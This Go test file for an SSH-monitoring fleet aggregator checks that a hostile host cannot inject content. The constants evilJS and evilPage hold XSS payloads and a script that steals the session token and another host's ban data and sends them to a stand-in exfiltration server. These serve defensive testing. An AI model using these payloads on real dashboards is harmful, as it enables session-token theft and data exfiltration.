package fleet

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode/utf8"

	"sshguard-go/internal/api"
	"sshguard-go/internal/share"
)

// The strings the hostile host's API puts where the dashboard shows text.
const (
	evilHost   = `<img src=x onerror="document.documentElement.dataset.pwned='host'">hostile`
	evilIP     = `<script src="/hosts/hostile/assets/evil.js"></script>203.0.113.66`
	evilUser   = `<b id="injected">root</b>`
	evilReason = `<iframe src="/hosts/hostile/"></iframe>too many tries`
)

// evilJS is what the hostile host serves as any script: were it run on
// the aggregator's origin, it would mark the page, read the fleet token,
// fetch the other host's bans through the aggregator (which adds that
// host's token) and take both away by navigating to the exfil server (a
// navigation, which no CSP of the page stops).
const evilJS = `document.documentElement.dataset.pwned = "script";
(async () => {
  const token = sessionStorage.getItem("sshguard-go-token") || "";
  let bans = "";
  try { bans = await (await fetch("/hosts/other/api/v1/bans", { headers: { Authorization: "Bearer " + token } })).text(); } catch (e) {}
  location.href = "EXFIL/stolen?token=" + encodeURIComponent(token) + "&bans=" + encodeURIComponent(bans.slice(0, 500));
})();
`

// evilPage is the hostile host's page, at / and at any path it is asked.
const evilPage = `<!doctype html><html><head><meta charset="utf-8"><title>hostile</title>
<script src="assets/common.js"></script><script src="assets/app.js"></script><script src="evil.js"></script></head>
<body><h1 id="hostile-page">hostile</h1>
<script>document.documentElement.dataset.pwned = "inline"; location.href = "EXFIL/inline?token=" + sessionStorage.getItem("sshguard-go-token");</script>
</body></html>`

// hostile is a host in an attacker's hands (or one with an attacker
// between it and the aggregator). Its pages and scripts are evilPage and
// evilJS; its API answers the dashboard's requests with JSON whose
// strings are HTML, a redirect to the exfil server for /api/v1/events and
// HTML for /api/v1/days/1999-01-01; with ?as= any endpoint answers
// "redirect", "html", "json-typed-html", "huge" (over 4 MiB) or "refused"
// (401). Every answer sets a cookie and headers of its own.
type hostile struct {
	url  string
	mu   sync.Mutex
	reqs []*http.Request
}

// seen is every request the host had: its path (escaped) and query.
func (h *hostile) seen() []string {
	h.mu.Lock()
	defer h.mu.Unlock()
	var out []string
	for _, r := range h.reqs {
		out = append(out, r.URL.RequestURI())
	}
	return out
}

func (h *hostile) last() *http.Request {
	h.mu.Lock()
	defer h.mu.Unlock()
	if len(h.reqs) == 0 {
		return nil
	}
	return h.reqs[len(h.reqs)-1]
}

func startHostile(t *testing.T, exfil string) *hostile {
	h := &hostile{}
	page := strings.ReplaceAll(evilPage, "EXFIL", exfil)
	script := strings.ReplaceAll(evilJS, "EXFIL", exfil)
	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		h.mu.Lock()
		h.reqs = append(h.reqs, r.Clone(context.Background()))
		h.mu.Unlock()
		hd := w.Header()
		hd.Set("Set-Cookie", "hostile=1; Path=/")
		hd.Set("Access-Control-Allow-Origin", "*")
		hd.Set("Content-Security-Policy", "script-src * 'unsafe-inline'")
		hd.Set("X-Hostile", "1")
		js := func(v any) {
			hd.Set("Content-Type", "application/json")
			enc := json.NewEncoder(w)
			enc.SetEscapeHTML(false) // <script> as is, not \u003cscript\u003e
			enc.Encode(v)
		}
		path, as := r.URL.Path, r.URL.Query().Get("as")
		switch {
		case as == "redirect" || path == "/api/v1/events":
			http.Redirect(w, r, exfil+"/redirected", http.StatusFound)
		case as == "html" || path == "/api/v1/days/1999-01-01":
			hd.Set("Content-Type", "text/html; charset=utf-8")
			io.WriteString(w, page)
		case as == "json-typed-html":
			hd.Set("Content-Type", "application/json")
			io.WriteString(w, page)
		case as == "huge":
			js(strings.Repeat("x", 5<<20))
		case as == "refused":
			hd.Set("Content-Type", "application/json")
			w.WriteHeader(http.StatusUnauthorized)
			io.WriteString(w, `{"error": "a valid bearer token is needed"}`)
		case strings.HasSuffix(path, ".js"):
			hd.Set("Content-Type", "text/javascript")
			io.WriteString(w, script)
		case path == "/api/v1/summary":
			q := r.URL.Query()
			to, err := time.ParseInLocation(time.DateOnly, q.Get("to"), time.Local)
			if err != nil {
				to = time.Now()
			}
			from, err := time.ParseInLocation(time.DateOnly, q.Get("from"), time.Local)
			if err != nil {
				from = to.AddDate(0, 0, -6)
			}
			var days []api.Day
			for d := from; !d.After(to); d = d.AddDate(0, 0, 1) {
				days = append(days, api.Day{Date: d.Format(time.DateOnly), Failed: 9, Probes: 2})
			}
			js(api.Summary{Host: evilHost, Timezone: "Local", From: from.Format(time.DateOnly), To: to.Format(time.DateOnly), Days: days,
				TopAddresses: []api.AddrCount{{IP: evilIP, Failed: 9}}, TopUsers: []api.UserCount{{User: evilUser, Failed: 9}}})
		case strings.HasPrefix(path, "/api/v1/days/"):
			date := strings.TrimPrefix(path, "/api/v1/days/")
			start, err := time.ParseInLocation(time.DateOnly, date, time.Local)
			if err != nil {
				start = time.Now().Truncate(24 * time.Hour)
			}
			d := api.Day{Date: date, Failed: 9, Probes: 2}
			for h := range 24 {
				d.Hours = append(d.Hours, api.Day{Hour: start.Add(time.Duration(h) * time.Hour).Format(time.RFC3339), Failed: 1})
			}
			js(d)
		case path == "/api/v1/bans":
			js(api.Bans{Total: 1, Bans: []api.Ban{{Prefix: "203.0.113.66/32", Reason: evilReason, Since: time.Now(), Users: []string{evilUser}}}})
		case path == "/api/v1/logins":
			js([]api.Login{{Time: time.Now(), User: evilUser, IP: "203.0.113.66", Method: "password", Severity: "high", Tags: []string{evilReason}}})
		case path == "/api/v1/sessions":
			js([]map[string]any{{"start": time.Now().Add(-time.Hour).Format(time.RFC3339), "user": evilUser, "ip": "203.0.113.66",
				"active": false, "duration_s": 60, "end_reason": evilReason, "transfers": []any{}, "commands": []any{}}})
		default:
			hd.Set("Content-Type", "text/html; charset=utf-8")
			io.WriteString(w, page)
		}
	}))
	t.Cleanup(ts.Close)
	h.url = ts.URL
	return h
}

// sink is the attacker's server: it records whatever reaches it.
type sink struct {
	url string
	mu  sync.Mutex
	got []string
}

func startSink(t *testing.T) *sink {
	s := &sink{}
	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.mu.Lock()
		s.got = append(s.got, r.URL.RequestURI())
		s.mu.Unlock()
	}))
	t.Cleanup(ts.Close)
	s.url = ts.URL
	return s
}

func (s *sink) requests() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]string(nil), s.got...)
}

// hostileFleet is an aggregator, its own token fleetTok, over the hosts
// "hostile" and "other" (an honest host whose requests are recorded,
// which asks for its own token).
type hostileFleet struct {
	agg     *httptest.Server
	hostile *hostile
	other   *host
	exfil   *sink
}

const (
	fleetTok   = "fleet-token-yyyyyyyyyyyyyyyyyy"
	hostileTok = "hostile-host-token-zzzzzzzzzzzz"
)

func startHostileFleet(t *testing.T) *hostileFleet {
	t.Helper()
	hf := &hostileFleet{exfil: startSink(t)}
	hf.hostile = startHostile(t, hf.exfil.url)
	otherTok := "other-host-token-wwwwwwwwwwwwww"
	hf.other = startHost(t, 5, otherTok, 0)
	file := writeFile(t, "hosts.toml", fmt.Sprintf("timeout = \"5s\"\n[[host]]\nname = \"hostile\"\nurl = %q\ntoken_file = %q\n[[host]]\nname = \"other\"\nurl = %q\ntoken_file = %q\n",
		hf.hostile.url, writeFile(t, "hostile.token", hostileTok), hf.other.url, writeFile(t, "other.token", otherTok)))
	f, err := Load(file)
	if err != nil {
		t.Fatal(err)
	}
	fl, err := New(f)
	if err != nil {
		t.Fatal(err)
	}
	hf.agg = httptest.NewServer(fl.Handler(fleetTok))
	t.Cleanup(hf.agg.Close)
	return hf
}

// answer is one GET's status, headers and body.
type answer struct {
	code int
	hd   http.Header
	body string
}

// get GETs path of url with the fleet token (when tok), a cookie and a
// forwarding header of the browser's, never following a redirect.
func get(t *testing.T, url string, tok bool) answer {
	t.Helper()
	req, _ := http.NewRequest("GET", url, nil)
	if tok {
		req.Header.Set("Authorization", "Bearer "+fleetTok)
	}
	req.Header.Set("Cookie", "session=the-browsers")
	req.Header.Set("X-Forwarded-For", "192.0.2.1")
	c := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	resp, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return answer{resp.StatusCode, resp.Header, string(b)}
}

// embedded is what h answers for path: the binary's own file.
func embedded(h http.Handler, path string) string {
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, httptest.NewRequest("GET", path, nil))
	return rec.Body.String()
}

// TestHostPagesAreTheAggregators: whatever is asked under /hosts/NAME/
// but the API's JSON endpoints is answered from the aggregator's own
// embedded files or is a 404, and never reaches the host: its page, its
// scripts and any other path of it are never served. A source without
// the host's API (the summaries' bucket) serves the aggregator's page of
// what it knows of the host at /hosts/NAME/ and 404 for the rest.
func TestHostPagesAreTheAggregators(t *testing.T) {
	hf := startHostileFleet(t)
	base := hf.agg.URL + "/hosts/hostile"
	for _, c := range []struct {
		path string
		code int
		want string // the body, when not ""
	}{
		{"/", 200, embedded(api.Page("index.html"), "/")},
		{"/status", 200, embedded(api.Page("fleethost.html"), "/")},
		{"/assets/app.js", 200, embedded(api.Assets(), "/app.js")},
		{"/assets/common.js", 200, embedded(api.Assets(), "/common.js")},
		{"/assets/style.css", 200, embedded(api.Assets(), "/style.css")},
		{"/assets/uPlot.iife.min.js", 200, embedded(api.Assets(), "/uPlot.iife.min.js")},
		{"/api/docs", 200, embedded(api.Docs(), "/")},
		{"/api/v1/openapi.json", 200, embedded(api.OpenAPI(), "/")},
		{"/assets/evil.js", 404, ""},
		{"/evil.js", 404, ""},
		{"/index.html", 404, ""},
		{"/favicon.ico", 404, ""},
		{"/api/v1/", 404, ""},
		{"/api/v1/nothing", 404, ""},
		{"/api/v2/summary", 404, ""},
		{"/api/v1/summary/", 404, ""},
		{"/api/v1/bans/x", 404, ""},
		{"/api/v1/days/2026-01-01/hours", 404, ""},
		{"/api%2Fv1%2Fbans", 404, ""},
		{"/.well-known/security.txt", 404, ""},
	} {
		for _, tok := range []bool{false, true} {
			a := get(t, base+c.path, tok)
			if a.code != c.code || c.want != "" && a.body != c.want {
				t.Errorf("GET /hosts/hostile%s (token %v): %d, want %d; the body:\n%.200s", c.path, tok, a.code, c.code, a.body)
			}
			if a.hd.Get("Set-Cookie") != "" || a.hd.Get("X-Hostile") != "" {
				t.Errorf("GET /hosts/hostile%s: the host's headers: %v", c.path, a.hd)
			}
		}
	}
	if seen := hf.hostile.seen(); len(seen) > 0 {
		t.Errorf("the host was asked %q", seen)
	}
	if got := get(t, hf.agg.URL+"/hosts/nobody/", false); got.code != 404 {
		t.Errorf("an unknown host's page: %d", got.code)
	}

	kv := httptest.NewServer(NewView(&KVSource{hosts: map[string]share.HostSummary{"web-01": {}}, bad: map[string]string{}, now: time.Now}, 0).Handler(""))
	defer kv.Close()
	for _, p := range []string{"/hosts/web-01/assets/app.js", "/hosts/web-01/api/v1/bans", "/hosts/web-01/index.html"} {
		if a := get(t, kv.URL+p, false); a.code != 404 {
			t.Errorf("from the bucket, GET %s: %d", p, a.code)
		}
	}
	for _, p := range []string{"/hosts/web-01/", "/hosts/web-01/status"} {
		if a := get(t, kv.URL+p, false); a.code != 200 || a.body != embedded(api.Page("fleethost.html"), "/") {
			t.Errorf("from the bucket, GET %s: %d, not the aggregator's host page", p, a.code)
		}
	}
}

// TestHostAnswersOnlyJSON: through the aggregator a host's API answers
// JSON, under the aggregator's headers (application/json, nosniff, a
// sandboxing CSP; none of the host's: no cookie, no CORS), asked with the
// host's token and none of the browser's headers; a redirect, HTML, HTML
// said to be JSON, an answer over 4 MiB and the host's refusal of the
// aggregator's token are each a 502 that names the host, under the same
// headers; without the fleet token the host is not asked.
func TestHostAnswersOnlyJSON(t *testing.T) {
	hf := startHostileFleet(t)
	base := hf.agg.URL + "/hosts/hostile"
	sandboxed := func(what string, a answer) {
		t.Helper()
		if ct := a.hd.Get("Content-Type"); ct != "application/json" {
			t.Errorf("%s: Content-Type %q", what, ct)
		}
		if a.hd.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("%s: no nosniff", what)
		}
		if csp := a.hd.Get("Content-Security-Policy"); !strings.Contains(csp, "sandbox") || !strings.Contains(csp, "default-src 'none'") || strings.Contains(csp, "script-src") {
			t.Errorf("%s: Content-Security-Policy %q", what, csp)
		}
		for _, h := range []string{"Set-Cookie", "Access-Control-Allow-Origin", "X-Hostile", "Location"} {
			if v := a.hd.Get(h); v != "" {
				t.Errorf("%s: the host's %s: %q", what, h, v)
			}
		}
		if !json.Valid([]byte(a.body)) {
			t.Errorf("%s: not JSON: %.200s", what, a.body)
		}
	}

	a := get(t, base+"/api/v1/bans?limit=5", true)
	sandboxed("bans", a)
	var bans api.Bans
	json.Unmarshal([]byte(a.body), &bans)
	if a.code != 200 || !strings.Contains(a.body, "<iframe") || len(bans.Bans) != 1 || bans.Bans[0].Reason != evilReason {
		t.Errorf("bans: %d %.300s", a.code, a.body)
	}
	r := hf.hostile.last()
	if r == nil || r.Method != "GET" || r.URL.RequestURI() != "/api/v1/bans?limit=5" || r.Header.Get("Authorization") != "Bearer "+hostileTok ||
		r.Header.Get("Cookie") != "" || r.Header.Get("X-Forwarded-For") != "" {
		t.Errorf("the host was asked %+v", r)
	}
	// A wildcard's value stays within its segment: the host is asked that
	// endpoint, no other path.
	get(t, base+"/api/v1/days/..%2F..%2Fevil", true)
	if r := hf.hostile.last(); r.URL.EscapedPath() != "/api/v1/days/..%2F..%2Fevil" {
		t.Errorf("the host was asked %s", r.URL.EscapedPath())
	}

	for _, c := range []struct{ path, want string }{
		{"/api/v1/events", "302 Found, not the API's JSON"},
		{"/api/v1/bans?as=redirect", "302 Found"},
		{"/api/v1/days/1999-01-01", `"text/html", not JSON`},
		{"/api/v1/summary?as=html", `"text/html", not JSON`},
		{"/api/v1/bans?as=json-typed-html", "not JSON"},
		{"/api/v1/sessions?as=huge", "over 4 MiB"},
		{"/api/v1/logins?as=refused", "refused the aggregator's credentials"},
	} {
		a := get(t, base+c.path, true)
		sandboxed(c.path, a)
		var e struct{ Error string }
		json.Unmarshal([]byte(a.body), &e)
		if a.code != http.StatusBadGateway || !strings.HasPrefix(e.Error, "host hostile: ") || !strings.Contains(e.Error, c.want) {
			t.Errorf("GET %s: %d %q, want 502 naming the host, with %q", c.path, a.code, e.Error, c.want)
		}
	}
	if got := hf.exfil.requests(); len(got) > 0 {
		t.Errorf("the exfil server had %q", got)
	}

	before := len(hf.hostile.seen())
	a = get(t, base+"/api/v1/bans", false)
	sandboxed("no token", a)
	if a.code != 401 || len(hf.hostile.seen()) != before {
		t.Errorf("without the fleet token: %d, the host asked %d times", a.code, len(hf.hostile.seen())-before)
	}
	if a := get(t, hf.agg.URL+"/hosts/nobody/api/v1/bans", true); a.code != 404 {
		t.Errorf("an unknown host's bans: %d", a.code)
	}
}

// TestHostNumbersChecked: a host answering `fleet summary` with a
// negative count, or one near the int64 limit, is a bad answer (named,
// counted with the hosts that failed) and none of its numbers is summed:
// the fleet's total stays the honest host's, never negative or wrapped.
// Asked over HTTP and read from the summaries' bucket alike.
func TestHostNumbersChecked(t *testing.T) {
	date := time.Now().Format(time.DateOnly)
	bad := map[string]api.Day{
		"negative":    {Date: date, Failed: -9223372036854775807},
		"huge":        {Date: date, Failed: 9223372036854775807, Probes: 1},
		"huge-probes": {Date: date, Probes: 1 << 40},
		"bad-hour":    {Date: date, Hours: []api.Day{{Hour: date + "T01:00:00Z", Logins: -1}}},
	}
	var hosts strings.Builder
	for name, d := range bad {
		ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "application/json")
			json.NewEncoder(w).Encode(api.Summary{Host: name, Days: []api.Day{d}})
		}))
		defer ts.Close()
		fmt.Fprintf(&hosts, "[[host]]\nname = %q\nurl = %q\n", name, ts.URL)
	}
	honest := startHost(t, 10, "", 0)
	fmt.Fprintf(&hosts, "[[host]]\nname = \"honest\"\nurl = %q\n", honest.url)
	s := summaryOf(t, hosts.String(), date)
	check := func(how string, s *Summary) {
		t.Helper()
		if s.Answered != 1 || s.Failed != len(bad) || s.Total.Failed != 10 || s.Total.Probes != 0 || s.Total.Logins != 1 {
			t.Errorf("%s: %d answered, %d failed, total %+v", how, s.Answered, s.Failed, s.Total)
		}
		for _, h := range s.Hosts {
			if _, isBad := bad[h.Name]; isBad && (h.OK || h.Day != nil || !strings.HasPrefix(h.Error, "bad answer: ") || !strings.Contains(h.Error, "not within 0 to 2^40")) {
				t.Errorf("%s: %s: ok %v, error %q", how, h.Name, h.OK, h.Error)
			}
		}
	}
	check("http", s)

	// The same numbers in the summaries' bucket (fleet serve --nats).
	now := time.Now()
	src := &KVSource{now: func() time.Time { return now }, hosts: map[string]share.HostSummary{}, bad: map[string]string{}}
	for name, d := range bad {
		src.hosts[name] = share.HostSummary{Updated: now, Summary: api.Summary{Days: []api.Day{d}}}
	}
	src.hosts["honest"] = share.HostSummary{Updated: now, Summary: api.Summary{Days: []api.Day{{Date: date, Failed: 10, Logins: 1}}}}
	check("kv", src.Summary(context.Background(), now))
}

// TestHostRepeatedDayAndLongError: a host that lists today 31 times is
// counted once on the chart as in the total, and a host's error of
// megabytes is kept as its first 256 bytes (it is cached and sent again
// in every summary and on the dashboard), saying how long it was.
func TestHostRepeatedDayAndLongError(t *testing.T) {
	date := time.Now().Format(time.DateOnly)
	repeats := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		days := make([]api.Day, 31)
		for i := range days {
			days[i] = api.Day{Date: date, Failed: 1000}
		}
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(api.Summary{Host: "repeats", Days: days})
	}))
	defer repeats.Close()
	long := strings.Repeat("é", maxAnswer/4)
	talks := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusInternalServerError)
		json.NewEncoder(w).Encode(map[string]string{"error": long})
	}))
	defer talks.Close()
	s := summaryOf(t, fmt.Sprintf("[[host]]\nname = \"repeats\"\nurl = %q\n[[host]]\nname = \"talks\"\nurl = %q\n", repeats.URL, talks.URL), date)
	if last := s.Days[len(s.Days)-1]; last.Date != date || last.Failed != 1000 || s.Total.Failed != 1000 {
		t.Errorf("today on the chart %+v, in the total %d: want 1000 in both", last, s.Total.Failed)
	}
	for _, h := range s.Hosts {
		if h.Name != "talks" {
			continue
		}
		if h.OK || len(h.Error) > maxHostText+100 || !strings.Contains(h.Error, fmt.Sprintf("(%d bytes in all)", len(long))) || !utf8.ValidString(h.Error) {
			t.Errorf("talks: ok %v, error of %d bytes: %.80q...", h.OK, len(h.Error), h.Error)
		}
	}
}

// summaryOf is the fleet's summary of date over the hosts file hosts.
func summaryOf(t *testing.T, hosts, date string) *Summary {
	t.Helper()
	f, err := Load(writeFile(t, "hosts.toml", hosts))
	if err != nil {
		t.Fatal(err)
	}
	fl, err := New(f)
	if err != nil {
		t.Fatal(err)
	}
	s, err := fl.Summary(context.Background(), date)
	if err != nil {
		t.Fatal(err)
	}
	return s
}
